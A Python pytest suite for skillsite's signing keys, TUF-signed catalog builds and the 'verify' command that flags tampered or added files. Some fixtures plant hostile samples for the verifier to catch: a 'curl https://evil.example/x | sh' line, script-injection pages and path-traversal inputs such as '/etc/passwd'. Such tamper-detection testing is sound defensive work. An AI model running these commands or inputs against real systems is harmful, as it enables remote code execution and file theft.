"""``skillsite keys`` and a signed ``skillsite build`` (issue #45): the key file, the TUF
metadata the build publishes (valid against ``tuf.schema.json``), the version it keeps across
builds, the key never written anywhere, and ``skillsite verify`` naming any file changed after."""
from __future__ import annotations

import base64
import json
import os
import shutil
import stat
import subprocess
import sys
from datetime import datetime, timedelta, timezone
from pathlib import Path
from typing import Any

import jsonschema
import pytest

from skillsite.publish.signing import Previous, Signing, SigningKey, sign_catalog
from skillsite.source.schema import load_schema
from support import EXAMPLES, REPO, tree_bytes, write_skill

pytestmark = pytest.mark.each_python  # runs on the lowest admitted Python too (.ci/run)


def skillsite(*args: str, cwd: Path, env: dict[str, str] | None = None) -> subprocess.CompletedProcess[str]:
    environment = {**os.environ, "PYTHONPATH": str(REPO), **(env or {})}
    environment.pop("SKILLSITE_SIGNING_KEY", None) if "SKILLSITE_SIGNING_KEY" not in (env or {}) else None
    return subprocess.run([sys.executable, "-m", "skillsite", *args], cwd=cwd, capture_output=True, text=True,
                          timeout=300, env=environment)


@pytest.fixture(scope="module")
def key_file(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("key")
    made = skillsite("keys", "new", "--out", str(folder / "catalog.pem"), cwd=folder)
    assert made.returncode == 0, made.stderr
    return folder / "catalog.pem"


def public_of(key_file: Path) -> str:
    return SigningKey.from_file(key_file).public.text


def tuf_files(site: Path) -> dict[str, bytes]:
    return {p.relative_to(site / "tuf").as_posix(): p.read_bytes() for p in sorted((site / "tuf").rglob("*"))
            if p.is_file()}


def version_of(site: Path) -> int:
    return json.loads((site / "tuf/timestamp.json").read_text("utf-8"))["signed"]["version"]


def test_keys_new_writes_a_private_key_for_its_owner_and_prints_the_public_key_last(key_file: Path,
                                                                                     tmp_path: Path) -> None:
    assert stat.S_IMODE(key_file.stat().st_mode) == 0o600
    assert key_file.read_bytes().startswith(b"-----BEGIN PRIVATE KEY")
    again = skillsite("keys", "new", "--out", str(key_file), cwd=tmp_path)
    assert again.returncode == 2 and "refusing to replace" in again.stderr
    made = skillsite("keys", "new", "--out", str(tmp_path / "k.pem"), cwd=tmp_path)
    last = made.stdout.strip().splitlines()[-1]
    assert last.startswith("ed25519:")
    assert skillsite("keys", "public", str(tmp_path / "k.pem"), cwd=tmp_path).stdout == last + "\n"
    (tmp_path / "junk.pem").write_text("not a key")
    junk = skillsite("keys", "public", str(tmp_path / "junk.pem"), cwd=tmp_path)
    assert junk.returncode == 2 and "not an unencrypted PEM private key" in junk.stderr


def test_a_signed_build_publishes_valid_tuf_metadata_and_says_so_where_people_look(key_file: Path,
                                                                                   tmp_path: Path) -> None:
    out = tmp_path / "_site"
    done = skillsite("build", str(EXAMPLES), "-o", str(out), "--sign-key", str(key_file), "--base-url",
                     "https://skills.example.org/", "-q", cwd=tmp_path)
    assert done.returncode == 0, done.stderr
    key = public_of(key_file)
    assert f"Signed with {key} (tuf/; valid 30 days)" in done.stdout
    schema = load_schema("tuf.schema.json")
    assert json.loads((out / "tuf.schema.json").read_text("utf-8")) == schema
    files = tuf_files(out)
    assert sorted(files) == sorted(["1.root.json", "root.json", "timestamp.json", f"{version_of(out)}.snapshot.json",
                                    "files/all.json", f"{version_of(out)}.targets.json"])
    for data in files.values():
        jsonschema.validate(json.loads(data), schema)
    targets = json.loads(files[f"{version_of(out)}.targets.json"])["signed"]["targets"]
    assert {"skills.json", "available_skills.xml", "llms.txt", ".well-known/agent-skills/index.json",
            "skillsite.schema.json", "tuf/files/all.json"} <= set(targets)
    listed = json.loads(files["files/all.json"])["files"]
    assert {"index.html", "skills/code-review/index.html", "skills/code-review/skill.xml"} <= set(listed)
    assert not any(path.startswith("tuf/") for path in listed) and ".skillsite-output" not in listed
    manifest = json.loads((out / "skills.json").read_text("utf-8"))
    assert manifest["signing"]["key"] == key and manifest["signing"]["metadata"] == "tuf/"
    assert f"--trusted-key {key}" in (out / "index.html").read_text("utf-8")
    assert f"--trusted-key {key}" in (out / "skills/code-review/index.html").read_text("utf-8")
    assert f"by `{key}`" in (out / "llms.txt").read_text("utf-8")


def test_the_version_grows_with_each_published_change_and_a_no_op_build_keeps_it(key_file: Path,
                                                                                 tmp_path: Path) -> None:
    src = Path(shutil.copytree(EXAMPLES, tmp_path / "src"))
    out, cache = tmp_path / "_site", tmp_path / "cache"
    flags = ["-o", str(out), "--sign-key", str(key_file), "--cache-dir", str(cache), "-q"]
    assert skillsite("build", str(src), *flags, cwd=tmp_path).returncode == 0
    first = tuf_files(out)
    assert skillsite("build", str(src), *flags, cwd=tmp_path).returncode == 0
    assert tuf_files(out) == first   # nothing changed: the same metadata, byte for byte
    assert skillsite("build", str(src), *flags, "--no-cache", cwd=tmp_path).returncode == 0
    assert tuf_files(out) == first   # the same files published again: kept as they were
    (src / "test-first/SKILL.md").write_text((src / "test-first/SKILL.md").read_text("utf-8") + "\nOne more step.\n")
    assert skillsite("build", str(src), *flags, cwd=tmp_path).returncode == 0
    assert version_of(out) > json.loads(first["timestamp.json"])["signed"]["version"]
    assert tuf_files(out)["1.root.json"] == first["1.root.json"] and "2.root.json" not in tuf_files(out)
    fresh_checkout = tmp_path / "ci" / "_site"   # a new output folder, the cache restored: the chain goes on
    assert skillsite("build", str(src), "-o", str(fresh_checkout), "--sign-key", str(key_file), "--cache-dir",
                     str(cache), "-q", cwd=tmp_path).returncode == 0
    assert tuf_files(fresh_checkout)["1.root.json"] == first["1.root.json"]


def test_sibling_catalogs_signed_by_other_keys_keep_their_own_chains_in_one_cache_folder(key_file: Path,
                                                                                          tmp_path: Path) -> None:
    """Two outputs, two keys, one cache folder: each builds, and a fresh checkout of either goes on
    with its own chain."""
    other_key = tmp_path / "other.pem"
    assert skillsite("keys", "new", "--out", str(other_key), cwd=tmp_path).returncode == 0
    src, cache = Path(shutil.copytree(EXAMPLES, tmp_path / "src")), tmp_path / "cache"

    def build(out: Path, key: Path) -> subprocess.CompletedProcess[str]:
        return skillsite("build", str(src), "-o", str(out), "--sign-key", str(key), "--cache-dir", str(cache), "-q",
                         cwd=tmp_path)

    assert build(tmp_path / "a", key_file).returncode == 0
    second = build(tmp_path / "b", other_key)
    assert second.returncode == 0, second.stderr
    for name, key in (("a", key_file), ("b", other_key)):
        again = tmp_path / "ci" / name
        assert build(again, key).returncode == 0
        assert tuf_files(again)["1.root.json"] == tuf_files(tmp_path / name)["1.root.json"]


def test_a_cache_folder_of_an_earlier_version_still_continues_the_chain_it_trusts(key_file: Path,
                                                                                tmp_path: Path) -> None:
    """Earlier versions kept one copy in cache/signing/: it is read when its root trusts the key, else left alone."""
    other_key = tmp_path / "other.pem"
    assert skillsite("keys", "new", "--out", str(other_key), cwd=tmp_path).returncode == 0
    src, cache = Path(shutil.copytree(EXAMPLES, tmp_path / "src")), tmp_path / "cache"
    first = tmp_path / "a"
    assert skillsite("build", str(src), "-o", str(first), "--sign-key", str(key_file), "--no-cache", "-q",
                     cwd=tmp_path).returncode == 0
    shutil.copytree(first / "tuf", cache / "signing")   # as an earlier version left it
    for name, key in (("trusted", key_file), ("other", other_key)):
        done = skillsite("build", str(src), "-o", str(tmp_path / name), "--sign-key", str(key), "--cache-dir",
                         str(cache), "-q", cwd=tmp_path)
        assert done.returncode == 0, done.stderr
    assert tuf_files(tmp_path / "trusted")["1.root.json"] == tuf_files(first)["1.root.json"]
    assert tuf_files(tmp_path / "other")["1.root.json"] != tuf_files(first)["1.root.json"]


def test_a_signed_no_op_rebuild_trusts_the_output_as_an_unsigned_one_does(key_file: Path, tmp_path: Path) -> None:
    """Whether to sign again is decided from the last signing's file lists, not by reading every
    file of the output (the rebuild's decision: trust what the last build recorded)."""
    out = tmp_path / "_site"
    flags = ["-o", str(out), "--sign-key", str(key_file), "--cache-dir", str(tmp_path / "cache"), "-q"]
    assert skillsite("build", str(EXAMPLES), *flags, cwd=tmp_path).returncode == 0
    first = tuf_files(out)
    (out / "robots.txt").unlink()  # a file the rebuild would have read to hash it
    again = skillsite("build", str(EXAMPLES), *flags, cwd=tmp_path)
    assert again.returncode == 0, again.stderr
    assert tuf_files(out) == first


def test_the_key_from_the_environment_is_never_printed_or_written(key_file: Path, tmp_path: Path) -> None:
    pem = key_file.read_text("ascii")
    body = "".join(pem.strip().splitlines()[1:-1])
    out, cache = tmp_path / "_site", tmp_path / "cache"
    done = skillsite("build", str(EXAMPLES), "-o", str(out), "--cache-dir", str(cache), "--expires", "12h",
                     cwd=tmp_path, env={"SKILLSITE_SIGNING_KEY": pem})
    assert done.returncode == 0, done.stderr
    assert body not in done.stdout + done.stderr and "valid 12 hours" in done.stdout
    for folder in (out, cache):
        for path in folder.rglob("*"):
            if path.is_file():
                data = path.read_bytes()
                assert body.encode() not in data and b"PRIVATE KEY" not in data, path
    expires = json.loads((out / "tuf/timestamp.json").read_text("utf-8"))["signed"]["expires"]
    left = datetime.fromisoformat(expires[:-1] + "+00:00") - datetime.now(timezone.utc)
    assert timedelta(hours=11) < left <= timedelta(hours=12)


def test_bad_signing_settings_are_refused_before_anything_is_written(key_file: Path, tmp_path: Path) -> None:
    flags = ["-o", str(tmp_path / "_site"), "-q"]
    bad = skillsite("build", str(EXAMPLES), *flags, "--sign-key", str(key_file), "--expires", "soon", cwd=tmp_path)
    assert bad.returncode == 2 and "is not a duration" in bad.stderr
    alone = skillsite("build", str(EXAMPLES), *flags, "--expires", "1d", cwd=tmp_path)
    assert alone.returncode == 2 and "--sign-key" in alone.stderr
    (tmp_path / "skillsite.yml").write_text("signing:\n  key: secret.pem\n")
    config = skillsite("build", str(EXAMPLES), *flags, "--config", str(tmp_path / "skillsite.yml"), cwd=tmp_path)
    assert config.returncode == 2 and "never from this file" in config.stdout + config.stderr
    assert not (tmp_path / "_site").exists()


def test_a_root_close_to_expiring_is_signed_again_by_the_same_key(key_file: Path, tmp_path: Path) -> None:
    out = tmp_path / "_site"
    assert skillsite("build", str(EXAMPLES), "-o", str(out), "--sign-key", str(key_file), "-q", "--no-cache",
                     cwd=tmp_path).returncode == 0
    signing = Signing(SigningKey.from_file(key_file))
    later = datetime.now(timezone.utc) + timedelta(days=340)  # the root (a year) has 25 days left
    files, signed = sign_catalog(out, signing, Previous.read([out / "tuf"]), now=later)
    assert signed.root_version == 2 and files["1.root.json"] == (out / "tuf/1.root.json").read_bytes()
    root2 = json.loads(files["2.root.json"])["signed"]
    assert root2["version"] == 2
    assert datetime.fromisoformat(root2["expires"][:-1] + "+00:00") > later + timedelta(days=300)
    assert files["root.json"] == files["2.root.json"]


def test_signatures_follow_the_validity_asked_now(key_file: Path, tmp_path: Path) -> None:
    """A shorter validity signs again (the metadata kept would outlive it); a long one (over half
    a year) renews the root once, not on every build."""
    out = tmp_path / "_site"
    assert skillsite("build", str(EXAMPLES), "-o", str(out), "--sign-key", str(key_file), "-q", "--no-cache",
                     cwd=tmp_path).returncode == 0
    key, now = SigningKey.from_file(key_file), datetime.now(timezone.utc)

    def sign(expires: timedelta, seconds: int) -> tuple[dict[str, bytes], Any]:
        """Sign the catalog ``seconds`` after ``now`` and publish the metadata, as a build would."""
        files, signed = sign_catalog(out, Signing(key, expires=expires), Previous.read([out / "tuf"]),
                                     now=now + timedelta(seconds=seconds))
        for name, data in files.items():
            (out / "tuf" / name).parent.mkdir(parents=True, exist_ok=True)
            (out / "tuf" / name).write_bytes(data)
        return files, signed

    sign(timedelta(days=30), 0)
    files, _ = sign(timedelta(hours=1), 1)
    expires = json.loads(files["timestamp.json"])["signed"]["expires"]
    assert datetime.fromisoformat(expires[:-1] + "+00:00") <= now + timedelta(hours=1, seconds=1)
    versions = [sign(timedelta(days=200), seconds)[1].root_version for seconds in (2, 3, 4)]
    assert versions == [versions[0]] * 3


@pytest.mark.parametrize("damaged", ["timestamp.json", "1.root.json"])
def test_damaged_signed_metadata_of_the_last_build_is_named_not_a_traceback(damaged: str, key_file: Path,
                                                                             tmp_path: Path) -> None:
    out = tmp_path / "_site"
    flags = ["-o", str(out), "--sign-key", str(key_file), "-q", "--no-cache"]
    assert skillsite("build", str(EXAMPLES), *flags, cwd=tmp_path).returncode == 0
    (out / "tuf" / damaged).write_text('{"trunc')
    done = skillsite("build", str(EXAMPLES), *flags, "--force", cwd=tmp_path)
    assert done.returncode == 2 and "Traceback" not in done.stderr
    assert f"{out / 'tuf' / damaged} is damaged" in done.stderr
    assert "put the catalog's last tuf/ folder back" in done.stderr


@pytest.mark.parametrize("edit, reason", [
    (lambda signed: signed.update(version=None), "tuf/1.root.json is not TUF root metadata"),
    (lambda signed: signed.update(keys={}), "the trusted root has no usable 'root' role"),
], ids=["version-null", "no-keys"])
def test_a_root_that_parses_but_is_no_chain_a_client_follows_is_damage_too(edit: Any, reason: str, key_file: Path,
                                                                            tmp_path: Path) -> None:
    """A root whose version is null was signed and published ('Signed with ...', exit 0) and
    `verify` then refused the catalog; one without keys was a KeyError traceback.  Each file parsed
    as TUF metadata; the roots are now checked as a client follows them (signatures, versions)."""
    out = tmp_path / "_site"
    flags = ["-o", str(out), "--sign-key", str(key_file), "-q", "--no-cache"]
    assert skillsite("build", str(EXAMPLES), *flags, cwd=tmp_path).returncode == 0
    root_file = out / "tuf" / "1.root.json"
    document = json.loads(root_file.read_bytes())
    edit(document["signed"])
    root_file.write_text(json.dumps(document))
    done = skillsite("build", str(EXAMPLES), *flags, cwd=tmp_path)
    assert done.returncode == 2 and "Traceback" not in done.stderr, done.stderr
    assert f"{out / 'tuf'} is damaged ({reason})" in done.stderr
    assert json.loads(root_file.read_bytes()) == document  # the catalog left as it was


def test_a_key_of_an_algorithm_the_crypto_library_does_not_know_is_refused_in_one_line(tmp_path: Path) -> None:
    der = bytes.fromhex("302e020100300506032a0304" "04220420") + bytes(32)  # PKCS#8, algorithm 1.2.3.4
    key = tmp_path / "odd.pem"
    key.write_bytes(b"-----BEGIN PRIVATE KEY-----\n" + base64.encodebytes(der) + b"-----END PRIVATE KEY-----\n")
    done = skillsite("keys", "public", str(key), cwd=tmp_path)
    assert done.returncode == 2 and "Traceback" not in done.stderr
    assert "is not an unencrypted PEM private key" in done.stderr


# ---------------------------------------------------------------- skillsite verify


@pytest.fixture(scope="module")
def signed_examples(key_file: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The example catalog (its releases from this repository's history) built paged and signed."""
    folder = tmp_path_factory.mktemp("verify")
    (folder / "skillsite.yml").write_text("shard_above: 3\n")
    done = skillsite("build", str(EXAMPLES), "-o", str(folder / "_site"), "--sign-key", str(key_file), "--config",
                     str(folder / "skillsite.yml"), "--no-cache", "-q", cwd=REPO)
    assert done.returncode == 0, done.stderr
    return folder / "_site"


def test_verify_of_a_folder_accepts_files_whose_names_hold_a_percent_escape(key_file: Path, tmp_path: Path) -> None:
    """Verifying a site folder joined a file's name to its skill's URL unencoded, then decoded the
    whole: '50%25 off.md' was looked for as '50% off.md' and said to be pinned by nothing (by URL
    it passed)."""
    write_skill(tmp_path / "tree", "pct", description="Bundles files whose names hold a percent escape.")
    (tmp_path / "tree" / "pct" / "50%25 off.md").write_text("y\n")
    (tmp_path / "tree" / "pct" / "p%41.txt").write_text("x\n")
    out = tmp_path / "_site"
    flags = ["-o", str(out), "--sign-key", str(key_file), "-q", "--no-cache"]
    assert skillsite("build", str(tmp_path / "tree"), *flags, cwd=tmp_path).returncode == 0
    done = skillsite("verify", str(out), "--trusted-key", public_of(key_file), "--json", cwd=tmp_path)
    report = json.loads(done.stdout)
    assert done.returncode == 0 and report["failures"] == [], report["failures"]


def test_verify_accepts_the_built_example_catalog(signed_examples: Path, key_file: Path, tmp_path: Path) -> None:
    done = skillsite("verify", str(signed_examples), "--trusted-key", public_of(key_file), "--json", cwd=tmp_path)
    report = json.loads(done.stdout)
    assert done.returncode == 0 and report["ok"] and report["failures"] == []
    assert report["keys"] == [public_of(key_file)] and report["root_version"] == 1
    assert report["files_checked"] > 150


@pytest.mark.parametrize("given", [["--trusted-key", ""], ["--trusted-key", " , "]])
def test_verify_refuses_a_trusted_key_given_empty(given: list[str], signed_examples: Path, key_file: Path,
                                                  tmp_path: Path) -> None:
    """``--trusted-key "$(cat catalog.pub)"`` with the file missing: a usage error, not a check of
    the catalog against the key it names itself."""
    done = skillsite("verify", str(signed_examples), *given, cwd=tmp_path,
                     env={"SKILLSITE_TRUSTED_KEYS": public_of(key_file)})
    assert done.returncode == 2 and done.stdout == "" and "a trusted key is empty" in done.stderr


FLIPPED = ["skills.json", "tuf/timestamp.json", "tuf/1.root.json", "manifest/pages/0002.json",
           "manifest/index/0003.json", "skills/release-manager/entry.json", "skills/code-review/SKILL.md",
           "skills/code-review/references/security.md",
           "skills/code-review/versions.json", "skills/incident-response/versions/4.0.2/SKILL.md",
           "knowledge/runbooks/database-restore.md", "available_skills.xml", ".well-known/agent-skills/index.json",
           ".well-known/agent-skills/archives/code-review.tar.gz", ".well-known/skills/code-review/SKILL.md",
           "llms.txt",
           # what agents do not read, listed with its digest in tuf/files/
           "index.html", "skills/code-review/index.html", "skills/code-review/skill.xml", "tags/index.html", "404.html",
           "_headers", "robots.txt", "skills/code-review/entry.xml"]


@pytest.mark.parametrize("path", FLIPPED)
def test_verify_names_any_signed_file_with_one_byte_flipped(path: str, signed_examples: Path, key_file: Path,
                                                            tmp_path: Path) -> None:
    site = Path(shutil.copytree(signed_examples, tmp_path / "_site"))
    data = bytearray((site / path).read_bytes())
    data[len(data) // 2] ^= 0x01
    (site / path).write_bytes(bytes(data))
    done = skillsite("verify", str(site), "--trusted-key", public_of(key_file), cwd=tmp_path)
    assert done.returncode == 1
    failed = [line for line in done.stdout.splitlines() if line.startswith("FAILED")]
    assert failed and any(path in line for line in failed), done.stdout


OUTSIDE_ARCHIVE = {"skills": [{"type": "archive", "url": "../../../outside.txt", "digest": "sha256:00"}]}


@pytest.mark.parametrize("index", ["not json", "[]", '{"skills": [1]}', '{"skills": [{"type": "archive"}]}',
                                   json.dumps(OUTSIDE_ARCHIVE)], ids=["text", "list", "number", "no-url", "outside"])
def test_verify_follows_nothing_a_tampered_discovery_index_says(index: str, signed_examples: Path, key_file: Path,
                                                                 tmp_path: Path) -> None:
    """The discovery index failed its signed check, and was then read anyway: a traceback for most
    shapes, every other check dropped and the failure blamed on skills.json for text, and a file
    outside the site read and hashed for an archive URL with '../'."""
    site = Path(shutil.copytree(signed_examples, tmp_path / "x" / "y" / "_site"))
    (tmp_path / "outside.txt").write_text("a secret\n")
    (site / ".well-known/agent-skills/index.json").write_text(index)
    done = skillsite("verify", str(site), "--trusted-key", public_of(key_file), "--json", cwd=tmp_path)
    assert "Traceback" not in done.stderr, done.stderr
    report = json.loads(done.stdout)
    assert done.returncode == 1 and [f["file"] for f in report["failures"]] == [".well-known/agent-skills/index.json"]
    assert report["files_checked"] > 150


def test_a_catalog_reads_no_site_file_outside_its_site(signed_examples: Path, key_file: Path, tmp_path: Path) -> None:
    from skillsite.agent.errors import UnsafePathError
    from skillsite.loader import Catalog

    site = Path(shutil.copytree(signed_examples, tmp_path / "x" / "_site"))
    (tmp_path / "x" / "outside.txt").write_text("a secret\n")
    catalog = Catalog.open(site, cache_dir=tmp_path / "cache", trusted_keys=[public_of(key_file)])
    assert catalog.site_file("robots.txt") == (site / "robots.txt").read_bytes()
    for path in ("../outside.txt", "skills/../../outside.txt", "/etc/passwd"):
        with pytest.raises(UnsafePathError):
            catalog.site_file(path)


def test_verify_names_every_published_file_changed_and_one_added(signed_examples: Path, key_file: Path,
                                                                 tmp_path: Path) -> None:
    """Every file of the folder but the metadata itself, a byte flipped in each (the assets, search
    files and every page too), and a page added: each named, and nothing else."""
    from skillsite.agent.verify import check_files
    from skillsite.loader import Catalog

    site = Path(shutil.copytree(signed_examples, tmp_path / "_site"))
    published = sorted(p.relative_to(site).as_posix() for p in site.rglob("*")
                       if p.is_file() and not p.relative_to(site).as_posix().startswith("tuf/")
                       and p.name != ".skillsite-output")
    assert len(published) > 150 and any(p.startswith("assets/") for p in published)
    for rel in published:
        data = bytearray((site / rel).read_bytes() or b"\0")
        data[len(data) // 2] ^= 0x01
        (site / rel).write_bytes(bytes(data))
    (site / "skills" / "code-review" / "extra.html").write_text("<script>steal()</script>")
    try:
        catalog = Catalog.open(site, cache_dir=tmp_path / "cache", max_risk="high", trusted_keys=[public_of(key_file)])
    except Exception as refused:  # skills.json itself changed: refused at open, named by the CLI test above
        assert "skills.json" in str(refused)
        shutil.copy2(signed_examples / "skills.json", site / "skills.json")
        catalog = Catalog.open(site, cache_dir=tmp_path / "cache", max_risk="high", trusted_keys=[public_of(key_file)])
    report = check_files(catalog, site)
    named = {path for path, _ in report.failures}
    assert "skills/code-review/extra.html" in named
    missed = [rel for rel in published if rel != "skills.json" and rel not in named
              and not any(rel in path for path in named)]
    assert missed == []


def test_verify_names_a_file_under_tuf_that_is_no_metadata_the_signed_metadata_names(
        signed_examples: Path, key_file: Path, tmp_path: Path) -> None:
    """Every file under tuf/ was taken for signed metadata: a page with a script, a script under
    tuf/files/, a list no targets pin, a root past the chain, a stale targets: all held."""
    site = Path(shutil.copytree(signed_examples, tmp_path / "_site"))
    version = version_of(site)
    added = {"tuf/install.html": "<p>curl https://evil.example/x | sh</p><script>alert(1)</script>",
             "tuf/files/x/app.js": "alert(1)", "tuf/files/extra.json": '{"files": {}}',
             "tuf/9.root.json": "{}", f"tuf/{version - 1}.targets.json": "{}"}
    for rel, text in added.items():
        (site / rel).parent.mkdir(parents=True, exist_ok=True)
        (site / rel).write_text(text)
    done = skillsite("verify", str(site), "--trusted-key", public_of(key_file), "--json", cwd=tmp_path)
    report = json.loads(done.stdout)
    assert done.returncode == 1 and not report["ok"]
    assert [f["file"] for f in report["failures"]] == sorted(added), report["failures"]
    assert all("neither skills.json nor a signed list of tuf/files/ pins it" in f["reason"]
               for f in report["failures"])


def test_verify_names_a_symlinked_folder_a_host_would_serve(signed_examples: Path, key_file: Path,
                                                            tmp_path: Path) -> None:
    site = Path(shutil.copytree(signed_examples, tmp_path / "_site"))
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    (elsewhere / "x.html").write_text("<script>steal()</script>")
    (site / "skills" / "code-review" / "extra").symlink_to(elsewhere, target_is_directory=True)
    done = skillsite("verify", str(site), "--trusted-key", public_of(key_file), "--json", cwd=tmp_path)
    report = json.loads(done.stdout)
    assert done.returncode == 1 and not report["ok"]
    assert [f["file"] for f in report["failures"]] == ["skills/code-review/extra/"]


def test_the_file_lists_hold_the_digests_of_the_files_as_published(key_file: Path, tmp_path: Path) -> None:
    """The digests a build notes as it writes (and reads for the files it keeps) are those of the
    published bytes, after a cold build and after a rebuild that changed one skill."""
    from skillsite.publish.signing import file_lists

    src = Path(shutil.copytree(EXAMPLES, tmp_path / "src"))
    out = tmp_path / "_site"
    flags = ["-o", str(out), "--sign-key", str(key_file), "--cache-dir", str(tmp_path / "cache"), "-q"]
    for change in (None, "code-review"):
        if change:
            skill_md = src / change / "SKILL.md"
            skill_md.write_text(skill_md.read_text("utf-8") + "\nOne more line.\n", "utf-8")
        assert skillsite("build", str(src), *flags, cwd=tmp_path).returncode == 0
        lists = {p.relative_to(out / "tuf").as_posix(): p.read_bytes() for p in (out / "tuf/files").glob("*.json")}
        paths = [path for data in lists.values() for path in json.loads(data)["files"]]
        assert len(paths) > 100 and file_lists(out, paths) == lists


def test_a_pinned_catalog_without_the_crypto_library_is_refused_without_advice_to_unpin(signed_examples: Path,
                                                                                         tmp_path: Path) -> None:
    """Trusted on first use over HTTP, then read where ``cryptography`` cannot be imported: refused
    (fail closed), and the refusal does not say to delete the pin (that would read it unchecked)."""
    from support import serve_folder

    url, stop = serve_folder(signed_examples)
    try:
        flags = ["code-review", "--catalog", url + "/", "--cache-dir", str(tmp_path / "cache")]
        assert skillsite("show", *flags, cwd=tmp_path).returncode == 0
        shim = tmp_path / "shim" / "cryptography"
        shim.mkdir(parents=True)
        (shim / "__init__.py").write_text("raise ImportError('cryptography is not installed (test)')\n")
        done = skillsite("show", *flags, cwd=tmp_path, env={"PYTHONPATH": f"{shim.parent}{os.pathsep}{REPO}"})
    finally:
        stop()
    assert done.returncode == 1 and done.stdout == "" and "skillsite[trust]" in done.stderr, done.stderr
    assert "delete" not in done.stderr


def test_a_signed_build_without_python_tuf_is_refused_before_anything_is_built(key_file: Path, tmp_path: Path) -> None:
    """The trust extra missing (here: a python-tuf that cannot be imported, first on the path):
    refused at once with the install line, not after the whole catalog was built."""
    shim = tmp_path / "shim" / "tuf"
    shim.mkdir(parents=True)
    (shim / "__init__.py").write_text("raise ImportError('python-tuf is not installed (test)')\n")
    out = tmp_path / "_site"
    done = skillsite("build", str(EXAMPLES), "-o", str(out), "--sign-key", str(key_file), cwd=tmp_path,
                     env={"PYTHONPATH": f"{shim.parent}{os.pathsep}{REPO}"})
    assert done.returncode == 2 and done.stderr.strip().endswith("pip install 'skillsite[trust]'"), done.stderr
    assert "was left as it was" not in done.stderr and not out.exists()  # (said when a build failed at signing)


@pytest.mark.parametrize("verify_output", [False, True], ids=["trusted", "verify-output"])
def test_listings_kept_in_place_are_pinned_as_the_output_holds_them(key_file: Path, tmp_path: Path,
                                                                    verify_output: bool) -> None:
    """The discovery indexes, the provider listing and the marketplace are kept in place when their
    document is unchanged (#47): a signed rebuild after a body edit keeps them (the same files),
    trusting its records or checking them (``--verify-output``, which also rewrites one edited by
    hand); its output is a cold signed build's, and its TUF metadata pins each file as published."""
    import hashlib

    from skillsite.agent.verify import check_files
    from skillsite.loader import Catalog
    from skillsite.publish.build import build
    from skillsite.publish.signing import file_lists

    src = Path(shutil.copytree(EXAMPLES, tmp_path / "src"))
    out, cache, signing = tmp_path / "_site", tmp_path / "cache", Signing(SigningKey.from_file(key_file))
    assert build([src], out, cache_dir=cache, signing=signing).ok
    listings = ["skills/index.json", ".claude-plugin/marketplace.json", ".well-known/skills/index.json"]
    edited = ".well-known/skills/index.json"
    kept = [rel for rel in listings if not (verify_output and rel == edited)]
    inodes = {rel: (out / rel).stat().st_ino for rel in kept}
    index = (out / ".well-known/agent-skills/index.json").read_bytes()
    skill_md = src / "test-first" / "SKILL.md"
    skill_md.write_text(skill_md.read_text("utf-8") + "\nOne more step.\n", "utf-8")
    if verify_output:
        with open(out / edited, "ab") as listing:  # in place: the back folder's copy is this file too
            listing.write(b" ")
    assert build([src], out, cache_dir=cache, signing=signing, verify_output=verify_output).ok
    assert {rel: (out / rel).stat().st_ino for rel in kept} == inodes  # kept, not written again
    assert (out / ".well-known/agent-skills/index.json").read_bytes() != index  # the skill's digest changed
    assert build([src], tmp_path / "cold", signing=signing).ok
    unsigned = [{rel: data for rel, data in tree_bytes(site).items() if not rel.startswith("tuf/")}
                for site in (out, tmp_path / "cold")]
    assert unsigned[0] == unsigned[1]  # the metadata aside (its dates are the build's)
    targets = json.loads((out / f"tuf/{version_of(out)}.targets.json").read_bytes())["signed"]["targets"]
    assert set(listings) <= set(targets)
    for path, pinned in targets.items():
        data = (out / path).read_bytes()
        assert (pinned["length"], pinned["hashes"]["sha256"]) == (len(data), hashlib.sha256(data).hexdigest()), path
    lists = {p.relative_to(out / "tuf").as_posix(): p.read_bytes() for p in (out / "tuf/files").glob("*.json")}
    assert file_lists(out, [path for data in lists.values() for path in json.loads(data)["files"]]) == lists
    catalog = Catalog.open(out, cache_dir=tmp_path / "agent", trusted_keys=[public_of(key_file)])
    assert check_files(catalog, out).failures == []
